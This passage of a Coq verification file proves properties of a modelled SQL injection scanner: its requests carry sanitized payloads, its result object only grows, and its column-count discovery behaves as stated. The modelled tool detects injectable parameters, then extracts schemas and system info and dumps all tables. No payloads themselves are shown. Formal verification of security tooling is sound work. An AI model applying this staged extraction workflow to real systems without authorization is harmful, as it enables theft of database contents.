  destruct (Utils.sanitizePayload _ _) as [v|e] eqn:E; [|done].
  by apply sanitizePayload_ok in E as [_ ?].
Qed.

Lemma emits_newURL (P : Event → Prop) : Emits P (returns (λ u, u = u0)) (newURL url).
Proof. unfold newURL. rewrite Hurl. by apply emits_ret. Qed.

Lemma emits_log (P : Event → Prop) level message :
  (∀ line, P (Log line)) → Emits P (λ _, True) (log level message).
Proof. intros HP. by apply emits_perform. Qed.

End Requests.

(** ** The scanner: every stage sends tame requests *)

Section StageEffects.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.
Context (url : string) (u0 : URL) (Hurl : parseURL url = Some u0).
Context (config : ScanConfig).

Local Abbreviation Allowed := (Allowed u0 config).
Local Abbreviation Tame := (Tame u0 config).
Local Abbreviation anything := (λ _, True).

Ltac effects :=
  unfold log, mutate, delay;
  repeat first
    [ apply emits_ret; done
    | apply emits_throw; done
    | apply emits_perform; done
    | apply emits_getResult; done
    | apply emits_pLimit; done
    | eapply emits_bind with (Q1 := anything); [ | intros ? _ | done ] ].

(** The two steps every round over the parameters starts with. *)
Ltac request Ht Hv :=
  cbn zeta;
  eapply emits_bind with (Q1 := anything);
    [ apply emits_httpGet; apply (good_setParam u0 config _ _ _ Ht Hv) | intros ? _ | done ].

Lemma tame_setParam param v t :
  Tame t → Sanitized (maxPayloadLength config) v → Tame (setParam param v t).
Proof. intros Ht Hv. by apply good_setParam. Qed.

Lemma detectPayload_emits payload : Emits Allowed anything (detectPayload url config payload).
Proof.
  unfold detectPayload.
  eapply emits_bind; [apply emits_sanitizePayload | | done]. intros v Hv.
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros e _; effects ].
  eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
  eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | | done ].
  - apply emits_forParamsFrom; [apply tame_initial | done |].
    intros param t Ht. request Ht Hv.
    destruct (matchesSqlError _).
    + eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
      eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
      apply emits_ret. split; [by apply tame_setParam | done].
    + apply emits_ret. split; [by apply tame_setParam | done].
  - intros [t [r|]] _; effects.
Qed.

Lemma testBasicVulnerability_emits :
  Emits Allowed anything (testBasicVulnerability url config).
Proof.
  unfold testBasicVulnerability.
  eapply emits_bind with (Q1 := anything); [ | intros ? _; effects | done ].
  apply emits_forOf; [|done]. intros; apply detectPayload_emits.
Qed.

Lemma probeColumns_emits round : Emits Allowed anything (probeColumns url config round).
Proof.
  destruct round as [i payload]. unfold probeColumns.
  eapply emits_bind; [apply emits_sanitizePayload | | done]. intros v Hv.
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros e _; effects ].
  eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
  eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | | done ].
  - apply emits_forParamsFrom; [apply tame_initial | done |].
    intros param t Ht. request Ht Hv.
    destruct (negb _); apply emits_ret; (split; [by apply tame_setParam | done]).
  - intros [t [r|]] _; effects.
Qed.

Lemma findColumnCount_emits : Emits Allowed anything (findColumnCount url config).
Proof.
  unfold findColumnCount.
  eapply emits_bind with (Q1 := anything); [ | intros ? _; effects | done ].
  apply emits_forOf; [|done]. intros; apply probeColumns_emits.
Qed.

Lemma extractDatabaseSchemas_emits columnCount :
  Emits Allowed anything (extractDatabaseSchemas url columnCount config).
Proof.
  unfold extractDatabaseSchemas.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind; [apply emits_sanitizePayload | | done]. intros v Hv.
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros e _; effects ].
  eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
  eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | intros; effects | done ].
  apply emits_forParamsFrom; [apply tame_initial | done |].
  intros param t Ht. request Ht Hv.
  eapply emits_bind with (Q1 := anything); [ | intros ? _ | done ].
  - apply emits_forOf; [|done]. intros schema _. effects.
  - apply emits_ret. split; [by apply tame_setParam | done].
Qed.

Lemma columnsTask_emits columnCount dbName param table t :
  Tame t → Emits Allowed (taskPost Tame) (columnsTask columnCount dbName param table config t).
Proof.
  intros Ht. unfold columnsTask, mutate.
  eapply emits_bind with (Q1 := returns anything); [by apply emits_perform | intros ? _ | done].
  destruct (Utils.sanitizePayload _ _) as [v|e] eqn:E; [|apply emits_ret; exact Ht].
  apply sanitizePayload_ok in E as [_ Hv]. cbn zeta.
  eapply emits_bind with (Q1 := returns anything).
  - eapply emits_settle with (Q1 := anything); [|done].
    apply emits_httpGet. by apply good_setParam.
  - intros [data|e] _.
    + eapply emits_bind with (Q1 := returns anything);
        [by apply emits_perform | intros ? _ | done].
      apply emits_ret. simpl. by apply tame_setParam.
    + apply emits_ret. simpl. by apply tame_setParam.
  - done.
Qed.

Lemma extractDatabaseStructure_emits columnCount dbName :
  Emits Allowed anything (extractDatabaseStructure url columnCount dbName config).
Proof.
  unfold extractDatabaseStructure.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind; [apply emits_sanitizePayload | | done]. intros v Hv.
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros e _; effects ].
  eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
  eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | intros; effects | done ].
  apply emits_forParamsFrom; [apply tame_initial | done |].
  intros param t Ht. request Ht Hv.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind with (Q1 := taskPost Tame); [ | | done ].
  - apply emits_promiseAll; [by apply tame_setParam|].
    intros task s (table & -> & _)%list_elem_of_fmap Hs. by apply columnsTask_emits.
  - intros [t' o] Ht'. simpl in Ht'.
    eapply emits_bind with (Q1 := anything); [by apply emits_lift | intros ? _ | done].
    by apply emits_ret.
Qed.

Lemma dumpTask_emits columnCount table :
  Emits Allowed anything (dumpTask url columnCount config table).
Proof.
  unfold dumpTask.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind with (Q1 := anything); [effects | intros r _ | done].
  cbn zeta. case_bool_decide; [effects|].
  eapply emits_bind; [apply emits_sanitizePayload | | done]. intros v Hv.
  eapply emits_tryCatch with (Q1 := anything); [ | done | intros e _; effects ].
  eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
  eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | intros; effects | done ].
  apply emits_forParamsFrom; [apply tame_initial | done |].
  intros param t Ht. request Ht Hv.
  case_bool_decide.
  - eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
    apply emits_ret. split; [by apply tame_setParam | done].
  - apply emits_ret. split; [by apply tame_setParam | done].
Qed.

Lemma dumpAllTables_emits columnCount :
  Emits Allowed anything (dumpAllTables url columnCount config).
Proof.
  unfold dumpAllTables.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  eapply emits_bind with (Q1 := anything); [effects | intros r _ | done].
  apply emits_awaitAll; [|done].
  intros task (table & -> & _)%list_elem_of_fmap. apply dumpTask_emits.
Qed.

Lemma saveResultsToJSON_emits outputFile : Emits Allowed anything (saveResultsToJSON outputFile).
Proof.
  unfold saveResultsToJSON.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  destruct (writeFile outputFile); effects.
Qed.

Lemma saveResultsToSQL_emits outputFile : Emits Allowed anything (saveResultsToSQL outputFile).
Proof.
  unfold saveResultsToSQL.
  eapply emits_bind with (Q1 := anything); [effects | intros ? _ | done].
  destruct (writeFile outputFile); effects.
Qed.

(** [extractSystemInfo] writes to [databaseInfo] only, and throws only when
    one of its payloads exceeds the limit. *)
Definition infoOnly (ev : Event) : Prop :=
  match ev with
  | Mutate (SetDatabaseInfo _ _) => True
  | Mutate _ => False
  | _ => True
  end.

Definition infoFits (columnCount : nat) : Prop :=
  ∀ kp, kp ∈ systemInfoPayloads columnCount →
    Z.of_nat (String.length kp.2) ≤ maxPayloadLength config.

Lemma extractSystemInfo_emits columnCount :
  Emits (λ ev, Allowed ev ∧ infoOnly ev)
        (λ o, infoFits columnCount → returns anything o)
        (extractSystemInfo url columnCount config).
Proof.
  unfold extractSystemInfo, log.
  eapply emits_bind with (Q1 := returns anything); [by apply emits_perform | intros ? _ | done].
  eapply emits_bind with (Q1 := λ o, infoFits columnCount → returns anything o);
    [ | intros ? _; by apply emits_ret | done ].
  apply emits_forOf; [|done]. intros [key payload] Hin.
  eapply emits_bind with (Q1 := λ o, match o with
                                      | Ok v => Sanitized (maxPayloadLength config) v
                                      | Throw _ => ¬ infoFits columnCount
                                      end).
  - unfold sanitizePayload. apply emits_lift.
    destruct (Utils.sanitizePayload _ _) as [v|e] eqn:E.
    + by apply sanitizePayload_ok in E as [_ ?].
    + intros Hfit. specialize (Hfit _ Hin). simpl in Hfit.
      by rewrite (sanitizePayload_fits _ _ Hfit) in E.
  - intros v Hv.
    eapply emits_tryCatch with (Q1 := anything); [ | done | ].
    2:{ intros e _. unfold log.
        eapply emits_bind with (Q1 := returns anything);
          [by apply emits_perform | intros ? _ | done].
        by apply emits_ret. }
    eapply emits_bind; [apply (emits_newURL url u0 Hurl) | | done]. intros u ->.
    eapply emits_bind with (Q1 := roundPost Tame anything anything); [ | | done ].
    + apply emits_forParamsFrom; [apply tame_initial | done |].
      intros param t Ht. cbn zeta.
      pose proof (good_setParam u0 config _ _ _ Ht Hv : Allowed (Request (setParam param v t))).
      eapply emits_bind with (Q1 := anything); [by apply emits_httpGet | intros data _ | done].
      destruct (extractDataFromResponse data).
      * unfold mutate.
        eapply emits_bind with (Q1 := anything); [by apply emits_perform | intros ? _ | done].
        apply emits_ret. split; [by apply tame_setParam | done].
      * apply emits_ret. split; [by apply tame_setParam | done].
    + intros ? _. unfold delay.
      eapply emits_bind with (Q1 := anything); [by apply emits_perform | intros ? _ | done].
      by apply emits_ret.
  - intros e Hno Hfit. done.
Qed.

End StageEffects.

Section WholeScan.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.

(** Whatever the URL and the options, every request of a scan is a tame URL
    that carries a sanitized payload. *)
Lemma testSQLInjection_emits url options :
  Emits (λ ev, match ev with
               | Request x =>
                   ∃ u0, parseURL url = Some u0 ∧ GoodRequest u0 (spread SCAN_CONFIG options) x
               | _ => True
               end)
        (λ _, True) (testSQLInjection url options).
Proof.
  unfold testSQLInjection, Utils.validateUrl.
  destruct (parseURL url) as [u0|] eqn:Hurl; simpl.
  2:{ unfold log. eapply emits_bind with (Q1 := λ _, True); [by apply emits_perform | | done].
      intros. by apply emits_throw. }
  set (config := spread SCAN_CONFIG options).
  apply emits_mono with (P := Allowed u0 config).
  { intros [x| | | |]; simpl; eauto. }
  assert (∀ A B (m : M A) (f : A → M B) (Q : Outcome B → Prop),
            Emits (Allowed u0 config) (λ _, True) m →
            (∀ a, Emits (Allowed u0 config) Q (f a)) →
            (∀ o, Q o) → Emits (Allowed u0 config) Q (bind m f)) as step.
  { intros A B m f Q Hm Hf HQ. eapply emits_bind; eauto. }
  assert (∀ level message, Emits (Allowed u0 config) (λ _, True) (log level message)) as Hlog.
  { intros. by apply emits_perform. }
  apply emits_tryCatch with (Q1 := λ _, True); [ | done | ].
  2:{ intros e _. apply step; [apply Hlog | | done]. intros. by apply emits_throw. }
  apply step; [by apply testBasicVulnerability_emits | | done]. intros isVulnerable.
  destruct isVulnerable; simpl.
  2:{ apply step; [apply Hlog | | done]. intros. by apply emits_getResult. }
  apply step; [by apply emits_perform | | done]. intros _.
  apply step; [apply Hlog | | done]. intros _.
  apply step; [by apply findColumnCount_emits | | done]. intros columnCount.
  case_bool_decide.
  { apply step; [apply Hlog | | done]. intros. by apply emits_getResult. }
  apply step; [apply Hlog | | done]. intros _.
  apply step.
  { apply emits_awaitAll; [|done]. intros task Hin.
    apply elem_of_cons in Hin as [->|Hin].
    - eapply emits_mono, emits_weaken, extractSystemInfo_emits; [by intros ev [? _] | done | done].
    - apply list_elem_of_singleton in Hin as ->. by apply extractDatabaseSchemas_emits. }
  2: done. intros _.
  apply step; [by apply emits_pLimit | | done]. intros _.
  apply step; [by apply emits_getResult | | done]. intros r.
  apply step.
  { apply emits_awaitAll; [|done]. intros task (dbName & -> & _)%list_elem_of_fmap.
    by apply extractDatabaseStructure_emits. }
  2: done. intros _.
  apply step; [by apply dumpAllTables_emits | | done]. intros _.
  cbn zeta. apply step.
  { apply emits_awaitAll; [|done]. intros task Hin.
    apply elem_of_cons in Hin as [->|Hin]; [apply saveResultsToJSON_emits|].
    apply list_elem_of_singleton in Hin as ->. apply saveResultsToSQL_emits. }
  2: done. intros _. by apply emits_getResult.
Qed.

(** C10.  [sanitizePayload] throws exactly for an argument that is not a
    string or is longer than the limit; otherwise it returns the argument
    without its carriage returns, line feeds and semicolons, trimmed.  Every
    request of a scan, whatever the stage, carries in one of its parameters a
    string that [sanitizePayload] returned: no longer than [maxPayloadLength],
    free of those characters and trimmed; its other parameters hold such a
    string or a value of the URL under test. *)
Theorem C10_payloads_sanitized url options :
  (∀ payload maxLength,
     (∃ message, Utils.sanitizePayload payload maxLength = Throw message) ↔
     isString payload = false ∨
     ∃ s, payload = Str s ∧ Z.of_nat (String.length s) > maxLength) ∧
  (∀ s maxLength p,
     Utils.sanitizePayload (Str s) maxLength = Ok p →
     p = trim (removeChars Utils.isBreakOrSemicolon s) ∧ Sanitized maxLength p) ∧
  (∀ x, Request x ∈ trace (run url options).2 →
     ∃ u0, parseURL url = Some u0 ∧ GoodRequest u0 (spread SCAN_CONFIG options) x).
Proof.
  split; [apply sanitizePayload_throws|]. split; [apply sanitizePayload_ok|].
  intros x Hx. unfold run in Hx.
  destruct (testSQLInjection_emits url options initialWorld) as (evs & Hw & Hevs & _).
  rewrite Hw, emits_trace in Hx. simpl in Hx.
  rewrite Forall_forall in Hevs. by apply Hevs in Hx.
Qed.

(** *** The result object over time *)

(** From [r] to [r'] the sequences have been extended, the sets have gained
    members and the map has gained keys. *)
Definition grows (r r' : SQLInjectionResult) : Prop :=
  (vulnerable r = true → vulnerable r' = true) ∧
  columns r `prefix_of` columns r' ∧
  successfulPayloads r `prefix_of` successfulPayloads r' ∧
  databases r `prefix_of` databases r' ∧
  tables r `prefix_of` tables r' ∧
  (tableData r).*1 `prefix_of` (tableData r').*1.

Lemma grows_refl r : grows r r.
Proof. by repeat split. Qed.

Lemma grows_trans r1 r2 r3 : grows r1 r2 → grows r2 r3 → grows r1 r3.
Proof.
  intros (?&?&?&?&?&?) (?&?&?&?&?&?). repeat split; try (etrans; eassumption). auto.
Qed.

Lemma setAdd_prefix x l : l `prefix_of` setAdd x l.
Proof. unfold setAdd. case_bool_decide; [done | by apply prefix_app_r]. Qed.

Lemma mapSet_keys {V} k (v : V) m : m.*1 `prefix_of` (mapSet k v m).*1.
Proof.
  induction m as [|[k' v'] m IH]; simpl; [apply prefix_nil|].
  case_bool_decide; simpl; [by subst | by apply prefix_cons].
Qed.

Lemma applyEvent_grows ev r : grows r (applyEvent ev r).
Proof.
  destruct ev as [|?|m| |]; try apply grows_refl.
  destruct m; simpl; repeat split; simpl;
    auto using setAdd_prefix, mapSet_keys, prefix_app_r.
Qed.

Lemma replay_grows evs r : grows r (replay evs r).
Proof.
  revert r. induction evs as [|ev evs IH]; intros r; simpl; [apply grows_refl|].
  eapply grows_trans; [apply applyEvent_grows | apply IH].
Qed.

(** C6, as amended.  The result object changes only by the mutations recorded
    in the trace, and between any two moments of a scan its sequences
    [columns] and [successfulPayloads] are only extended, its sets
    [databases] and [tables] only gain members, and its map [tableData] only
    gains keys; [vulnerable], once true, stays true. *)
Theorem C6_result_grows url options :
  let w := (run url options).2 in
  result w = replay (trace w) emptyResult ∧
  ∀ before between after, trace w = before ++ between ++ after →
    grows (replay before emptyResult) (replay (before ++ between) emptyResult).
Proof.
  intros w. unfold w, run.
  destruct (testSQLInjection_emits url options initialWorld) as (evs & Hw & _ & _).
  rewrite Hw, emits_trace, emits_result. simpl. split; [done|].
  intros before between after _. rewrite replay_app. apply replay_grows.
Qed.

End WholeScan.

(** ** The scanner: runs that end well *)

Section Runs.
Import Scanner.
Local Open Scope js_scope.

(** From [w], the computation [m] returns [a] after the effects [evs]. *)
Definition Runs {A} (m : M A) (w : World) (evs : list Event) (a : A) : Prop :=
  m w = (Ok a, emits evs w).

Lemma runs_ret {A} (a : A) w : Runs (ret a) w [] a.
Proof. done. Qed.

Lemma runs_perform ev w : Runs (perform ev) w [ev] tt.
Proof. done. Qed.

Lemma runs_getResult w : Runs getResult w [] (result w).
Proof. done. Qed.

Lemma runs_pLimit n w : 1 ≤ n → Runs (pLimit n) w [] tt.
Proof. intros Hn. unfold Runs, pLimit. by destruct (Z.ltb_spec n 1); [lia|]. Qed.

Lemma runs_bind {A B} (m : M A) (f : A → M B) w evs a evs' b :
  Runs m w evs a → Runs (f a) (emits evs w) evs' b → Runs (bind m f) w (evs ++ evs') b.
Proof. unfold Runs, bind. intros -> ->. by rewrite emits_app. Qed.

Lemma runs_tryCatch {A} (m : M A) handler w evs a :
  Runs m w evs a → Runs (tryCatch m handler) w evs a.
Proof. unfold Runs, tryCatch. by intros ->. Qed.

Lemma runs_awaitAll_nil w : Runs (awaitAll []) w [] tt.
Proof. done. Qed.

Lemma runs_awaitAll_cons task tasks w evs evs' :
  Runs task w evs tt → Runs (awaitAll tasks) (emits evs w) evs' tt →
  Runs (awaitAll (task :: tasks)) w (evs ++ evs') tt.
Proof.
  unfold Runs, awaitAll. intros Ht Hrest. cbn [map promiseAll].
  unfold bind in *. unfold alone at 1. unfold bind, settle. rewrite Ht.
  destruct (promiseAll (map alone tasks) () (emits evs w)) as [[[[] o]|e] w'] eqn:E;
    [|done].
  unfold ret, lift in *. destruct o as [[]|e]; [|done].
  injection Hrest as ->. rewrite E. by rewrite emits_app.
Qed.

Lemma emits_runs {A} (P : Event → Prop) (Q : A → Prop) (m : M A) w :
  Emits P (returns Q) m → ∃ evs a, Runs m w evs a ∧ Forall P evs ∧ Q a.
Proof.
  intros Hm. destruct (Hm w) as (evs & Hw & Hevs & HQ).
  destruct (m w) as [[a|e] w'] eqn:E; [|done]. simpl in *. subst w'.
  by exists evs, a.
Qed.

(** Effects that leave a field [f] of the result object alone. *)
Definition keeps {X} (f : SQLInjectionResult → X) (ev : Event) : Prop :=
  ∀ r, f (applyEvent ev r) = f r.

Lemma replay_keeps {X} (f : SQLInjectionResult → X) evs r :
  Forall (keeps f) evs → f (replay evs r) = f r.
Proof.
  revert r. induction evs as [|ev evs IH]; intros r Hk; [done|].
  apply Forall_cons in Hk as [Hev Hk]. simpl. by rewrite IH, Hev.
Qed.

Lemma silent_keeps {X} (f : SQLInjectionResult → X) ev : silent ev → keeps f ev.
Proof. by destruct ev. Qed.

(** From [w], the computation [m] returns a value and reaches a world that
    together satisfy [post]. *)
Definition Reaches {A} (m : M A) (w : World) (post : A → World → Prop) : Prop :=
  ∃ a w', m w = (Ok a, w') ∧ post a w'.

Lemma reaches_bind {A B} (m : M A) (f : A → M B) w (mid : A → World → Prop) post :
  Reaches m w mid → (∀ a w', mid a w' → Reaches (f a) w' post) → Reaches (bind m f) w post.
Proof.
  intros (a & w1 & Hm & Hmid) Hf. destruct (Hf a w1 Hmid) as (b & w2 & Hb & Hpost).
  exists b, w2. unfold bind. by rewrite Hm.
Qed.

Lemma reaches_runs {A} (m : M A) w evs a (post : A → World → Prop) :
  Runs m w evs a → post a (emits evs w) → Reaches m w post.
Proof. intros Hm Hpost. by exists a, (emits evs w). Qed.

Lemma reaches_tryCatch {A} (m : M A) handler w post :
  Reaches m w post → Reaches (tryCatch m handler) w post.
Proof. intros (a & w' & Hm & Hpost). exists a, w'. unfold tryCatch. by rewrite Hm. Qed.

End Runs.

(** ** The scanner: stubs *)

Section Stubs.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.

(** The stub answers every request of a list with a body that satisfies [ok]. *)
Definition answered (ok : string → Prop) (urls : list URL) : Prop :=
  Forall (λ x, ∃ d, transport x = Body d ∧ ok d) urls.

Lemma probes_nonempty u v : searchParams u ≠ [] → ∃ x xs, probes u v = x :: xs.
Proof.
  unfold probes. destruct (searchParams u) as [|[param value] sp] eqn:E; [done|]. intros _.
  simpl. rewrite E. simpl. eauto.
Qed.

Lemma unanswered_not_answers hit urls : unanswered hit urls → ¬ answers hit urls.
Proof.
  intros Hun (before & x & after & d & -> & _ & Hx & Hd).
  destruct (Hun x) as (d' & Hx' & Hd'); [apply elem_of_app; right; by left|]. congruence.
Qed.

Lemma answers_answered hit u v :
  searchParams u ≠ [] → answered (λ d, hit d = true) (probes u v) → answers hit (probes u v).
Proof.
  intros Hne Hall. destruct (probes_nonempty u v Hne) as (x & xs & Hp).
  rewrite Hp in *. apply Forall_cons in Hall as [(d & Hx & Hd) _].
  exists [], x, xs, d. split; [done|]. split; [apply unanswered_nil | done].
Qed.

Lemma unanswered_answered hit urls : answered (λ d, hit d = false) urls → unanswered hit urls.
Proof. intros Hall x Hx. unfold answered in Hall. rewrite Forall_forall in Hall. by apply Hall. Qed.

(** A loop whose rounds, for the requests of [substitutions], never leave it
    and never throw. *)
Lemma forParamsFrom_steady {R} v (evsOf : URL → list Event)
    (body : string → URL → M (URL * option R)) rounds index t w :
  (∀ param t' w, setParam param v t' ∈ substitutions rounds index t v →
     body param t' w = (Ok (setParam param v t', None), emits (evsOf (setParam param v t')) w)) →
  ∃ t', forParamsFrom rounds index t body w =
          (Ok (t', None), emits (flat_map evsOf (substitutions rounds index t v)) w).
Proof.
  revert index t w.
  induction rounds as [|rounds IH]; intros index t w Hbody; simpl in *; [by eexists|].
  destruct (searchParams t !! index) as [[param value]|]; [|by eexists].
  unfold bind. rewrite Hbody by (by left).
  destruct (IH (S index) (setParam param v t) (emits (evsOf (setParam param v t)) w))
    as [t' ->]; [intros ????; apply Hbody; by right|].
  exists t'. simpl. by rewrite emits_app.
Qed.

End Stubs.

(** ** The scanner: from detection to column discovery *)

Section ColumnCount.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.
Context (url : string) (u : URL) (Hurl : parseURL url = Some u).
Context (options : PartialScanConfig).

Local Abbreviation config := (spread SCAN_CONFIG options).

Definition fits (payload : string) : Prop :=
  Z.of_nat (String.length payload) ≤ maxPayloadLength config.

(** Effects that write to [successfulPayloads] only. *)
Definition pushOnly (ev : Event) : Prop :=
  match ev with
  | Mutate (PushSuccessfulPayload _) => True
  | Mutate _ => False
  | _ => True
  end.

Lemma silent_pushOnly ev : silent ev → pushOnly ev.
Proof. by destruct ev. Qed.

Lemma payloadEvents_pushOnly payload : Forall pushOnly (payloadEvents config u payload).2.
Proof.
  unfold payloadEvents. destruct (scan sqlHit _); simpl; apply Forall_app; split;
    try (eapply Forall_impl; [apply silent_requests | apply silent_pushOnly]);
    by repeat constructor.
Qed.

Lemma detection_pushOnly payloads : Forall pushOnly (detection config u payloads).2.
Proof.
  induction payloads as [|p l IH]; simpl; [constructor|].
  pose proof (payloadEvents_pushOnly p) as Hp.
  destruct (payloadEvents config u p) as [[] evs]; simpl in *; [done|].
  destruct (detection config u l). simpl in *. by apply Forall_app.
Qed.

Lemma detection_some payloads :
  (∃ p, p ∈ payloads ∧ answers sqlHit (probes u (sanitized p))) →
  (detection config u payloads).1 = true.
Proof.
  induction payloads as [|q l IH]; intros (p & Hin & Hp); [by apply elem_of_nil in Hin|].
  simpl. destruct (payloadEvents config u q) as [found evs] eqn:E.
  destruct found; [done|].
  apply elem_of_cons in Hin as [->|Hin].
  - apply (payloadEvents_found config) in Hp. rewrite E in Hp. done.
  - destruct (detection config u l) as [found' evs']. simpl in *. apply IH. eauto.
Qed.

Definition stopEvents : list Event :=
  (detection config u DETECTION_PAYLOADS).2 ++
  [Mutate SetVulnerable;
   Log (mkLog "INFO" "Basic vulnerability confirmed, starting comprehensive scan...")] ++
  (discovery config u (indexed COLUMN_PAYLOADS)).2 ++
  [Log (mkLog "WARN" "No columns found, stopping scan")].

(** When the URL is found vulnerable and no column count is accepted, the scan
    ends after column discovery. *)
Lemma testSQLInjection_stops w :
  (∀ p, p ∈ DETECTION_PAYLOADS ++ COLUMN_PAYLOADS → fits p) →
  (detection config u DETECTION_PAYLOADS).1 = true →
  (discovery config u (indexed COLUMN_PAYLOADS)).1 = None →
  Runs (testSQLInjection url options) w stopEvents (result (emits stopEvents w)).
Proof.
  intros Hfit Hdet Hcol. unfold testSQLInjection, Utils.validateUrl. rewrite Hurl. simpl.
  apply runs_tryCatch. unfold stopEvents.
  eapply runs_bind.
  { unfold Runs. rewrite (testBasicVulnerability_run _ u) by
      (done || (intros; apply Hfit, elem_of_app; by left)). by rewrite Hdet. }
  simpl. apply (runs_bind _ _ _ [_] _ _ _ (runs_perform _ _)).
  apply (runs_bind _ _ _ [_] _ _ _ (runs_perform _ _)).
  eapply runs_bind.
  { unfold Runs. rewrite (findColumnCount_run _ u) by
      (done || (intros; apply Hfit, elem_of_app; by right)). by rewrite Hcol. }
  simpl. unfold Runs, bind, log, perform, getResult. rewrite !emits_app. simpl.
  by rewrite !emits_app.
Qed.

(** The fields that extraction fills. *)
Definition extracted (r : SQLInjectionResult) :=
  (databases r, tables r, columns r, tableData r, databaseInfo r).

Lemma pushOnly_keeps ev : pushOnly ev → keeps extracted ev ∧ keeps vulnerable ev.
Proof. destruct ev as [| |m| |]; try done. by destruct m. Qed.

Lemma stopEvents_extracted r : extracted (replay stopEvents r) = extracted r.
Proof.
  apply replay_keeps. unfold stopEvents. rewrite !Forall_app. repeat split.
  - eapply Forall_impl; [apply detection_pushOnly | apply pushOnly_keeps].
  - by repeat constructor.
  - eapply Forall_impl; [apply discovery_silent | apply silent_keeps].
  - by repeat constructor.
Qed.

Lemma stopEvents_vulnerable r : vulnerable (replay stopEvents r) = true.
Proof.
  unfold stopEvents. rewrite replay_app. simpl. rewrite replay_keeps; [done|].
  rewrite Forall_app. split; [|by repeat constructor].
  eapply Forall_impl; [apply discovery_silent | apply silent_keeps].
Qed.

Lemma stopEvents_requests x :
  Request x ∈ stopEvents →
  ∃ q, q ∈ DETECTION_PAYLOADS ++ COLUMN_PAYLOADS ∧ x ∈ probes u (sanitized q).
Proof.
  unfold stopEvents. rewrite !elem_of_app. intros [Hin|[Hin|[Hin|Hin]]].
  - apply detection_requests in Hin as (q & Hq & Hx). exists q. rewrite elem_of_app. auto.
  - repeat (apply elem_of_cons in Hin as [Hin|Hin]; [done|]). by apply elem_of_nil in Hin.
  - apply discovery_requests in Hin as (r & Hr%indexed_payload & Hx).
    exists r.2. rewrite elem_of_app. auto.
  - apply list_elem_of_singleton in Hin. done.
Qed.

(** C5.  [findColumnCount] tries the column payloads in catalog order and
    returns the position (from 1) of the first one for which a response body
    has no [error] in it; it returns 0 when there is none, and then
    [testSQLInjection] returns without running any extraction stage.  With the
    first two payloads answered by an error signature and the third by a
    clean body, it returns 3. *)
Theorem C5_column_count :
  (∀ p, p ∈ DETECTION_PAYLOADS ++ COLUMN_PAYLOADS → fits p) →
  let accepted p := answers columnHit (probes u (sanitized p)) in
  (∀ w l1 p l2, COLUMN_PAYLOADS = l1 ++ p :: l2 →
     (∀ q, q ∈ l1 → ¬ accepted q) → accepted p →
     (findColumnCount url config w).1 = Ok (length l1 + 1)%nat) ∧
  (∀ w, (∀ q, q ∈ COLUMN_PAYLOADS → ¬ accepted q) →
     (findColumnCount url config w).1 = Ok 0%nat) ∧
  (∀ w x, Request x ∈ trace (findColumnCount url config w).2 →
     Request x ∈ trace w ∨ ∃ q, q ∈ COLUMN_PAYLOADS ∧ x ∈ probes u (sanitized q)) ∧
  ((∃ p, p ∈ DETECTION_PAYLOADS ∧ answers sqlHit (probes u (sanitized p))) →
   (∀ q, q ∈ COLUMN_PAYLOADS → ¬ accepted q) →
   let out := run url options in
   out.1 = Ok (result out.2) ∧
   vulnerable (result out.2) = true ∧
   extracted (result out.2) = ([], [], [], [], mkInfo None None None) ∧
   ∀ x, Request x ∈ trace out.2 →
     ∃ q, q ∈ DETECTION_PAYLOADS ++ COLUMN_PAYLOADS ∧ x ∈ probes u (sanitized q)) ∧
  (∀ w p1 p2 p3 rest, COLUMN_PAYLOADS = p1 :: p2 :: p3 :: rest → searchParams u ≠ [] →
     answered (λ d, includes "error" (toLowerCase d) = true)
              (probes u (sanitized p1) ++ probes u (sanitized p2)) →
     answered (λ d, includes "error" (toLowerCase d) = false) (probes u (sanitized p3)) →
     (findColumnCount url config w).1 = Ok 3%nat).
Proof.
  intros Hfit accepted.
  assert (∀ w, findColumnCount url config w =
               (Ok (default 0%nat (discovery config u (indexed COLUMN_PAYLOADS)).1),
                emits (discovery config u (indexed COLUMN_PAYLOADS)).2 w)) as Hrun.
  { intros w. apply findColumnCount_run; [done|]. intros; apply Hfit, elem_of_app; by right. }
  assert (∀ l1 p l2, COLUMN_PAYLOADS = l1 ++ p :: l2 →
            (∀ q, q ∈ l1 → ¬ accepted q) → accepted p →
            ∀ w, (findColumnCount url config w).1 = Ok (length l1 + 1)%nat) as Hfirst.
  { intros l1 p l2 Hcat Hl1 Hp w. rewrite Hrun, Hcat. cbn [fst].
    by rewrite discovery_first. }
  split; [|split; [|split; [|split]]].
  - intros w l1 p l2 Hcat Hl1 Hp. by eapply Hfirst.
  - intros w Hnone. rewrite Hrun. cbn [fst]. by rewrite discovery_none.
  - intros w x. rewrite Hrun. cbn [snd]. rewrite emits_trace.
    intros [Hin|Hin]%elem_of_app; [by left|]. right.
    apply discovery_requests in Hin as (r & Hr%indexed_payload & Hx). eauto.
